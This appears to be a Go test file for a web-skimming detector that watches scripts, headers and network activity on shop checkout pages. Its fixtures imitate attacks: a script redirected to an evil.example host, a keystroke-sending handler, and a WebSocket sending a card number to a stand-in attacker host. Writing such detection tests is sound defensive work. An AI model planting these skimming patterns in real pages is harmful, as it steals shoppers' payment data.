package page

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tillwatch/tillwatch"
	"github.com/tillwatch/tillwatch/known"
	"github.com/tillwatch/tillwatch/sensor/page/browser"
	"github.com/tillwatch/tillwatch/sensor/page/journey"
)

func TestAddressesStayTheSameOverDeployments(t *testing.T) {
	for was, is := range map[string]string{
		"https://a.example/app.3f9a1c2b.js?v=1":                           "https://a.example/app.9b00d1ee.js?v=2",
		"https://a.example/static/version1699999999/pay.js":               "https://a.example/static/version1700000000/pay.js",
		"https://a.example/_next/static/chunks/pages/pay-0a1b2c3d4e5f.js": "https://a.example/_next/static/chunks/pages/pay-9988776655aa.js",
		"https://a.example/b/3f2504e0-4f89-11d3-9a0c-0305e82c3301/x.js":   "https://a.example/b/9f2504e0-4f89-11d3-9a0c-0305e82c3302/x.js",
	} {
		if steadyAddress(was) != steadyAddress(is) {
			t.Errorf("%q and %q", steadyAddress(was), steadyAddress(is))
		}
	}
	for _, same := range []string{
		"https://a.example/assets/vendor/jquery/jquery-3.7.1.min.js", "https://js.stripe.com/v3/", "https://a.example/", "https://cafe1234.example/feedback.js",
		"https://a.example/decade.js", "https://a.example/checkout/step2.js",
	} {
		if got := steadyAddress(same); got != same {
			t.Errorf("%q became %q", same, got)
		}
	}
}

// Two answers of one shop, and what an attacker may make of it.
const (
	answer1 = `var csrf = "kJ8s0Qz1m4VbTq7Lw2XyN5dR"; var now = 1700000000123; load("/api", {nonce: '0f9e8d7c6b5a4f3e2d1c', user: "taro.yamada@shop.example"});`
	answer2 = `var csrf = "A1b2C3d4E5f6G7h8I9j0K1l2"; var now = 1700000000999; load("/api", {nonce: 'aa99bb88cc77dd66ee55', user: "hanako@shop.example"});`
	altered = `var csrf = "kJ8s0Qz1m4VbTq7Lw2XyN5dR"; var now = 1700000000123; load("//evil.example/api", {nonce: '0f9e8d7c6b5a4f3e2d1c', user: "x@shop.example"});`
)

func inlineScript(source string) browser.Script {
	return browser.Script{ID: "1", Kind: "inline", Source: source, SHA256: digest(source)[7:], FrameURL: "https://shop.example/checkout?session=1"}
}

func itemOf(source string) tillwatch.Item {
	v := &visit{scripts: []browser.Script{inlineScript(source)}}
	return v.items("page", destinations{shop: "shop.example", providers: known.PaymentProviders()})[0]
}

func TestPagesOwnCodeIsTheSameFromAnswerToAnswer(t *testing.T) {
	a, b, c := itemOf(answer1), itemOf(answer2), itemOf(altered)
	if a.Place != b.Place || a.Normalised != b.Normalised || a.Digest == b.Digest {
		t.Errorf("two answers:\n%+v\n%+v", a, b)
	}
	if a.Place != c.Place || a.Normalised == c.Normalised {
		t.Errorf("another host is no change:\n%+v\n%+v", a, c)
	}
	if kept := string(a.Content.Bytes()); strings.Contains(kept, "taro") || strings.Contains(kept, "kJ8s0") || !strings.Contains(kept, "load(") {
		t.Errorf("kept is %q", kept)
	}
	if data1, data2 := itemOf(`var goods = [{id: 1, n: "a"}];`), itemOf(`var goods = [{id: 7, n: "b", sale: true}, {id: 8, n: "c"}];`); data1.Place != data2.Place {
		t.Errorf("other goods are another script: %q, %q", data1.Place, data2.Place)
	}
	if added := itemOf(answer1 + `document.onkeyup = function (e) { send(e.key) };`); added.Place == a.Place {
		t.Error("added code has the place of what was there")
	}
}

func TestTheNumberOfAScriptInItsPageIsNotItsName(t *testing.T) {
	v := &visit{scripts: []browser.Script{inlineScript("b(1)"), inlineScript("c()")}}
	before := v.items("page", destinations{shop: "shop.example", providers: known.PaymentProviders()})
	v.scripts = append([]browser.Script{inlineScript("a.first()")}, v.scripts...)
	for _, item := range v.items("page", destinations{shop: "shop.example", providers: known.PaymentProviders()}) {
		if item.Digest != digest("a.first()") && !slices.ContainsFunc(before, func(b tillwatch.Item) bool { return b.Place == item.Place && b.Digest == item.Digest }) {
			t.Errorf("%+v has another name than before", item)
		}
	}
}

func TestHeadersAreThoseOfAKindOfPage(t *testing.T) {
	at := func(second int) time.Time { return time.Date(2026, 11, 1, 9, 0, second, 0, time.UTC) }
	page := func(second int, address string, headers map[string]string) browser.Request {
		return browser.Request{Main: true, At: at(second), URL: address, Status: 200, ResponseHeaders: headers}
	}
	visit := func(nonce, session string) *visit {
		return &visit{
			requests: []browser.Request{
				page(1, "https://shop.example/", nil),
				page(3, "https://shop.example/checkout/"+session, map[string]string{
					"content-security-policy": "script-src 'nonce-" + nonce + "' https://a.example/?s=" + session + "; object-src 'none'", "x-frame-options": "DENY", "date": session,
				}),
			},
			steps:    []journey.Step{{Name: "home", At: at(2)}, {Name: "address", At: at(4)}, {Name: "payment", At: at(5)}},
			policies: []metaPolicies{{at: at(2)}, {at: at(5), policies: []string{"form-action 'self'"}}},
			scripts:  []browser.Script{{ID: "1", Kind: "external", URL: "https://a.example/x.js", SHA256: digest("")[7:], At: at(4)}},
		}
	}
	items := visit("abc", "1234567").items("page", destinations{shop: "shop.example", providers: known.PaymentProviders()})
	if again := visit("def", "7654321").items("page", destinations{shop: "shop.example", providers: known.PaymentProviders()}); again[1].Normalised != items[1].Normalised || again[1].Place != items[1].Place || again[1].Digest == items[1].Digest {
		t.Errorf("two answers differ:\n%+v\n%+v", items[1], again[1])
	}
	const want = "content-security-policy: script-src 'nonce-*' https://a.example/; object-src 'none'\nx-frame-options: DENY\nmeta content-security-policy: form-action 'self'\n"
	if len(items) != 4 || items[1].Place != "payment page of https://shop.example" || items[1].Value != want {
		t.Errorf("%+v", items)
	}
	if s := items[3].Stages; strings.Join(s, " ") != "address payment" {
		t.Errorf("the script was met at %q", s)
	}
}

func TestWhatAScriptDidOnSeveralPagesIsTogether(t *testing.T) {
	library := func(session string) browser.Script {
		return browser.Script{Session: session, ID: "1", Kind: "external", URL: "https://shop.example/slick.js", SHA256: digest("x")[7:]}
	}
	stack := []browser.Call{{ScriptID: "1"}}
	v := &visit{
		scripts:  []browser.Script{library("home"), library("checkout")},
		reads:    []browser.Read{{Session: "checkout", Stack: stack}},
		requests: []browser.Request{{Session: "home", Stack: stack, URL: "https://a.example/x"}},
		sockets:  []browser.SocketFrame{{Session: "checkout", Stack: stack, URL: "wss://4111111111111111.evil.example/", Sent: true}},
	}
	items := v.scriptItems("page", destinations{shop: "shop.example", providers: known.PaymentProviders()})
	if got := joined(items); len(got) != 1 || !slices.Equal(got[0].Capabilities, []tillwatch.Capability{"reads card", "sends a.example", "sends ….evil.example"}) {
		t.Errorf("%+v", got)
	}
}

func TestALargePageIsNamedInTime(t *testing.T) {
	began := time.Now()
	outline("x={" + strings.Repeat(`key_of_a_thing:"text",`, 200_000) + "}")
	outline(strings.Repeat("[1,", 500_000) + "x" + strings.Repeat("]", 500_000))
	outline(strings.Repeat("{", 500_000) + strings.Repeat("(a", 500_000))
	masked(strings.Repeat("a@b.example@", 300_000))
	if took := time.Since(began); took > 20*time.Second {
		t.Errorf("it took %v", took)
	}
}

func FuzzSkeleton(f *testing.F) {
	f.Add(answer1)
	f.Add("a={b:[1,2,{c:'d'}],e:true};//x\n/*y*/`${z}`\\")
	f.Add("([{)]}\"'`/")
	f.Fuzz(func(t *testing.T, source string) {
		if one, two := outline(source), outline(source); one != two {
			t.Error("two outlines of one source")
		}
		once := masked(source)
		if twice := masked(once); len(twice) > len(once) {
			t.Errorf("%q became longer: %q", once, twice)
		}
		steadyAddress("https://a.example/" + source)
		steadyPolicy(source)
	})
}
